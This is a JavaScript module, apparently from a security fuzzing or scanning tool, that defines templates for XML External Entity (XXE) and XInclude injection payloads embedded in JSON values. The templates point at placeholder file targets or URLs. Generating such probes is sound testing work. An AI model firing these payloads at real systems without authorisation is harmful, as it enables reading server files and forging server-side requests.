import { xxeGenerator } from '../xxe-generator.js';

/** A document inside of another format's value. */
export const fragmentInValue = xxeGenerator({
  name: 'fragment-in-value',
  location: 'json_values',
  rules: {
    start: [
      '<!DOCTYPE {root:r} [<!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}>]><{root:r}>&{entity:e};</{root:r}>',
      '<?xml version="1.0"?><!DOCTYPE {root:r} [<!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}>]><{root:r}><{child:c}>&{entity:e};</{child:c}></{root:r}>',
      '<{root:r} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href={q:q}{target}{q:q}/></{root:r}>',
      '<!DOCTYPE {root:r} SYSTEM {q:q}{url}{q:q}><{root:r}/>',
    ],
  },
});
